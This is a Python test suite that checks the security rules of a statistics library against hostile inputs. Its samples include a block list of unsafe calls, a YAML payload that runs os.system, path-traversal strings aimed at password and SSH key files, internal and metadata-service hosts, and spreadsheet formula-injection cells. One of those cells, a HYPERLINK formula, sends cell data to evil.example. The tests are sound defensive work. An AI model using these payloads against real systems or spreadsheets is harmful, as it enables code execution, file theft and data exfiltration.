"""The security rules of docs/reference/security.md, one test (or more) per rule."""

from __future__ import annotations

import ast
import csv
import ipaddress
import re
import urllib.parse
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from adoptstats import QueryError, UnknownGeographyError
from adoptstats.export import guard_formulas
from adoptstats_eurostat import EurostatSource, ResponseCache
from adoptstats_eurostat.http import DEFAULT_MAX_BYTES
from adoptstats_eurostat.settings import check_url, is_loopback

from ._kit import examples

ROOT = Path(__file__).resolve().parents[2]
SOURCES = sorted([*(ROOT / "src").rglob("*.py"), *ROOT.glob("plugins/*/src/**/*.py")])

# --------------------------------------------------------------------------------------------
# 1. no code execution from data: no eval, exec, pickle, marshal, unsafe YAML

#: Calls never allowed in the library (name as written: ``eval`` or ``module.attr``).
FORBIDDEN_CALLS = {
    "eval",
    "exec",
    "compile",
    "__import__",
    "pickle.load",
    "pickle.loads",
    "marshal.load",
    "marshal.loads",
    "shelve.open",
    "yaml.load",
    "yaml.load_all",
    "yaml.unsafe_load",
    "yaml.unsafe_load_all",
    "yaml.full_load",
    "yaml.full_load_all",
    "pd.read_pickle",
    "pandas.read_pickle",
    "os.system",
    "os.popen",
    "tempfile.mktemp",
}
FORBIDDEN_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib", "subprocess"}
UNSAFE_LOADERS = {"Loader", "UnsafeLoader", "FullLoader", "CLoader", "CUnsafeLoader", "CFullLoader"}


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def scan(path: Path, root: Path = ROOT) -> list[str]:
    """Every forbidden construct in one source file, as ``file:line: what``."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found: list[str] = []
    where = path.relative_to(root)
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = _dotted(node.func)
            if name in FORBIDDEN_CALLS:
                found.append(f"{where}:{node.lineno}: call to {name}")
            for kw in node.keywords:
                if kw.arg == "allow_pickle" and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                    found.append(f"{where}:{node.lineno}: allow_pickle")
                if kw.arg == "shell" and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                    found.append(f"{where}:{node.lineno}: shell=")
                if kw.arg == "verify" and isinstance(kw.value, ast.Constant) and kw.value.value is False:
                    found.append(f"{where}:{node.lineno}: verify=False")
                if kw.arg == "Loader" and _dotted(kw.value).split(".")[-1] in UNSAFE_LOADERS:
                    found.append(f"{where}:{node.lineno}: unsafe YAML loader {_dotted(kw.value)}")
            if name.endswith(".to_pickle"):
                found.append(f"{where}:{node.lineno}: {name}")
        elif isinstance(node, ast.Import):
            found += [f"{where}:{node.lineno}: import {a.name}" for a in node.names if a.name in FORBIDDEN_MODULES]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in FORBIDDEN_MODULES:
            found.append(f"{where}:{node.lineno}: from {node.module} import ...")
        elif isinstance(node, ast.Attribute) and node.attr in ("UnsafeLoader", "FullLoader", "CUnsafeLoader"):
            found.append(f"{where}:{node.lineno}: {_dotted(node)}")
    return found


def test_the_scan_covers_the_library() -> None:
    names = {p.relative_to(ROOT).as_posix() for p in SOURCES}
    assert "src/adoptstats/resultset.py" in names
    for plugin in ("eurostat", "manual", "oecd", "regus"):
        assert any(n.startswith(f"plugins/adoptstats-{plugin}/src/") for n in names), plugin
    assert len(SOURCES) > 40


def test_no_eval_exec_pickle_marshal_or_unsafe_yaml_in_the_library() -> None:
    found = [hit for path in SOURCES for hit in scan(path)]
    assert found == []


@pytest.mark.parametrize(
    "code",
    [
        "eval(text)",
        "import pickle",
        "from marshal import loads",
        "yaml.load(text, Loader=yaml.Loader)",
        "yaml.load(text)",
        "yaml.full_load(text)",
        "pd.read_pickle(path)",
        "frame.to_pickle(path)",
        "np.load(path, allow_pickle=True)",
        "subprocess.run(cmd, shell=True)",
        "requests.get(url, verify=False)",
        "yaml.compose(text, Loader=yaml.UnsafeLoader)",
    ],
)
def test_the_scan_finds_what_it_looks_for(tmp_path: Path, code: str) -> None:
    probe = tmp_path / "probe.py"
    probe.write_text(code + "\n")
    assert scan(probe, tmp_path), code


def test_manual_yaml_builds_no_python_object(tmp_path: Path) -> None:
    from adoptstats_manual import validate

    marker = tmp_path / "pwned"
    path = tmp_path / "figures.yaml"
    path.write_text(
        "figures:\n"
        f"  - geo: !!python/object/apply:os.system ['touch {marker}']\n"
        "    period: !!python/name:os.system\n"
        "    value: !!binary aGVsbG8=\n"
    )
    problems = validate(path)
    assert problems and not marker.exists()


# --------------------------------------------------------------------------------------------
# 2. cache file names come from a hash: nothing from a dataset code or filter reaches the file system

ENTRY = re.compile(r"^[0-9a-f]{2}/[0-9a-f]{64}\.entry$")
TRAVERSALS = [
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "%2e%2e%2f%2e%2e%2fetc",
    "isoc_cismt/../../../x",
    "a\x00b",
    "CON",
    "x" * 5000,
]


@pytest.mark.parametrize("evil", TRAVERSALS)
def test_dataset_codes_and_filters_that_look_like_paths(tmp_path: Path, evil: str) -> None:
    source = EurostatSource(cache_dir=tmp_path / "cache")
    attempts = [
        {"dataset": evil},
        {"dataset": "isoc_cismt", "indicator": evil},
        {"dataset": "isoc_cismt", "unit": evil},
        {"dataset": "isoc_cismt", "activity": evil},
        {"dataset": "isoc_cismt", "filters": {"nace_r2": evil}},
        {"dataset": "isoc_cismt", "filters": {evil: "A"}},
        {"dataset": "isoc_cismt", "geo": evil},
    ]
    for filters in attempts:
        try:
            urls = source.urls(source.query(**filters))
        except (QueryError, UnknownGeographyError):  # codes are checked before any URL is built
            continue
        assert "/" not in evil and "\\" not in evil and "." not in evil, (evil, urls)  # only plain codes get through
        for url in urls:
            assert ".." not in urllib.parse.urlsplit(url).path
            relative = source.cache().path(url).relative_to(source.cache_dir).as_posix()
            assert ENTRY.match(relative), relative


@settings(max_examples=examples(2000), database=None)
@given(url=st.text(max_size=300) | st.sampled_from(TRAVERSALS).map(lambda t: f"https://ec.europa.eu/{t}?geo={t}"))
def test_any_url_maps_to_a_hashed_name_inside_the_cache(url: str) -> None:
    cache = ResponseCache("/nonexistent/cache-root", expire_after=None)
    path = cache.path(url)
    relative = path.relative_to(cache.directory).as_posix()
    assert ENTRY.match(relative), relative
    assert ".." not in path.parts


# --------------------------------------------------------------------------------------------
# 3. HTTPS for remote URLs; plain HTTP only for loopback (a local test server)

_HOSTS = st.one_of(
    st.sampled_from(
        [
            "ec.europa.eu",
            "localhost",
            "127.0.0.1",
            "127.255.0.9",
            "[::1]",
            "x.localhost",
            "localhost.evil.example",
            "127.0.0.1.nip.io",
            "0x7f.1",
            "[::ffff:127.0.0.1]",
            "10.0.0.1",
            "169.254.169.254",
            "0.0.0.0",
            "2130706433",
            "",
            "user@127.0.0.1",
            "127.0.0.1@evil.example",
        ]
    ),
    st.from_regex(r"[a-z0-9.\-]{1,20}", fullmatch=True),
)


@settings(max_examples=examples(2000), database=None)
@given(
    scheme=st.sampled_from(["https", "http", "HTTP", "ftp", "file", "gopher", ""]),
    host=_HOSTS,
    port=st.none() | st.integers(1, 65535),
    path=st.sampled_from(["", "/", "/api", "/../x"]),
)
def test_only_https_or_loopback_http_is_accepted(scheme: str, host: str, port: int | None, path: str) -> None:
    url = f"{scheme}://{host}{'' if port is None else f':{port}'}{path}"
    try:
        parts = check_url(url)
    except QueryError:
        return
    hostname = parts.hostname or ""
    if parts.scheme == "https":
        assert hostname
    else:
        assert parts.scheme == "http"
        assert hostname == "localhost" or ipaddress.ip_address(hostname).is_loopback, url


@pytest.mark.parametrize("host", ["x.localhost", "localhost.evil.example", "127.0.0.1.nip.io", "[::ffff:7f00:1]"])
def test_names_that_only_look_like_loopback_are_refused(host: str) -> None:
    assert not is_loopback(urllib.parse.urlsplit(f"http://{host}/").hostname)
    with pytest.raises(QueryError, match="plain HTTP"):
        check_url(f"http://{host}/api")


def test_a_redirect_may_not_leave_https() -> None:
    from adoptstats_eurostat.http import HttpClient

    assert HttpClient().max_bytes == DEFAULT_MAX_BYTES
    with pytest.raises(QueryError, match="the redirect target"):
        check_url("http://ec.europa.eu/x", what="the redirect target of https://ec.europa.eu/")


# --------------------------------------------------------------------------------------------
# 4. a download size cap (default, and what it stops: see test_http_faults for the live cases)


def test_the_download_cap_is_on_by_default() -> None:
    source = EurostatSource()
    assert source._max_bytes == DEFAULT_MAX_BYTES == 512 * 1024 * 1024
    assert source._download_timeout == 600.0


# --------------------------------------------------------------------------------------------
# 5. spreadsheet formula injection: CSV and Excel exports guard text cells

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@settings(max_examples=examples(800), database=None)
@given(
    texts=st.lists(
        st.text(max_size=12) | st.sampled_from(["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=x", "\r=x", '=HYPERLINK("x")']),
        min_size=1,
        max_size=8,
    ),
    numbers=st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1, max_size=8),
)
def test_guard_formulas_on_any_text(texts: list[str], numbers: list[float]) -> None:
    n = min(len(texts), len(numbers))
    frame = pd.DataFrame(
        {
            "text": pd.Series(texts[:n], dtype=object),
            "cat": pd.Categorical(texts[:n]),
            "string": pd.Series(texts[:n], dtype="string"),
            "number": numbers[:n],
        }
    )
    guarded = guard_formulas(frame)
    for column in ("text", "cat", "string"):
        for before, after in zip(frame[column], guarded[column], strict=True):
            if before.startswith(FORMULA_START):
                assert after == "'" + before
            else:
                assert after == before
    assert guarded["number"].tolist() == frame["number"].tolist()  # negative numbers stay numbers


EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _evil_manual_file(folder: Path) -> Path:
    from adoptstats_manual import add

    path = folder / "figures.csv"
    add(
        path,
        geo="Belgique",
        period=2010,
        concept="social_media.customer_acquisition",
        value="27 %",
        population="@SUM(1+1)*cmd|' /C calc'!A0",
        publisher="+Evil Press",
        title="-2+3+cmd|' /C calc'!A0",
        url="https://example.org/a",
        quote=EVIL,
        indicator="=1+1",
        breakdown="\t=1+1",
    )
    return path


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_guard_every_text_cell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str) -> None:
    from adoptstats.cli import build_cli

    source = _evil_manual_file(tmp_path)
    monkeypatch.setenv("ADOPTSTATS_MANUAL_PATH", str(tmp_path))
    out = tmp_path / f"out{suffix}"
    result = CliRunner().invoke(build_cli(), ["fetch", "manual", "--option", f"path={source}", "-o", str(out)])
    assert result.exit_code == 0, result.output
    cells: list[tuple[str, object]] = []
    if suffix == ".csv":
        for name in (out, out.with_name("out.citations.csv")):
            with name.open(newline="", encoding="utf-8") as fh:
                rows = list(csv.reader(fh))
            header = rows[0]
            cells += [(header[i], v) for r in rows[1:] for i, v in enumerate(r)]
    else:
        import openpyxl

        book = openpyxl.load_workbook(out)
        for sheet in book.worksheets:
            rows = list(sheet.iter_rows())
            header = [c.value for c in rows[0]]
            for r in rows[1:]:
                for i, c in enumerate(r):
                    assert c.data_type != "f", (sheet.title, header[i], c.value)  # never a formula cell
                    cells.append((str(header[i]), c.value))
    texts = {col: v for col, v in cells if isinstance(v, str) and v}
    assert texts["quote"] == "'" + EVIL
    assert texts["publisher"] == "'+Evil Press"
    for column, value in cells:
        if isinstance(value, str) and column not in ("value", "lower", "upper"):
            assert not value.startswith(FORMULA_START), (column, value)


def test_json_export_keeps_text_as_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """JSON is for programs, not spreadsheets: the text is not altered (documented)."""
    import json

    from adoptstats.cli import build_cli

    source = _evil_manual_file(tmp_path)
    out = tmp_path / "out.json"
    result = CliRunner().invoke(build_cli(), ["fetch", "manual", "--option", f"path={source}", "-o", str(out)])
    assert result.exit_code == 0, result.output
    data = json.loads(out.read_text())
    assert data["citations"][0]["quote"] == EVIL


# --------------------------------------------------------------------------------------------
# 6. plugin trust model: see test_hostile_plugins (disabled plugins never run their code)


def test_the_security_page_states_each_rule() -> None:
    page = (ROOT / "docs" / "reference" / "security.md").read_text(encoding="utf-8")
    for words in (
        "ADOPTSTATS_LOAD_PLUGINS",
        "ADOPTSTATS_DISABLE_PLUGINS",
        "runs code",
        "yaml.safe_load",
        "SHA-256",
        "HTTPS",
        "512 MiB",
        "formula",
        "download_timeout",
        "belongs to the plugin whose entry-point name equals it",
        "nothing is served under a disputed name",
    ):
        assert words in page, words
